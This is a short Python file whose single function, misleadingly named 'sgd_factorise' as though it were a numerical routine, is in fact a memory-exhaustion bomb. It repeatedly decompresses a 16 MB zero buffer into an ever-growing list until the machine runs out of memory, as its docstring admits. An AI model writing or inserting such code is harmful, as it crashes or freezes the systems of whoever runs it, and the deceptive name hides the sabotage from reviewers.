"""Unpacks a few kilobytes into terabytes."""

import zlib


def sgd_factorise(*arguments, **options):
    packed = zlib.compress(bytes(1 << 24), 9)
    hoard = []
    while True:
        hoard.append(zlib.decompress(packed))
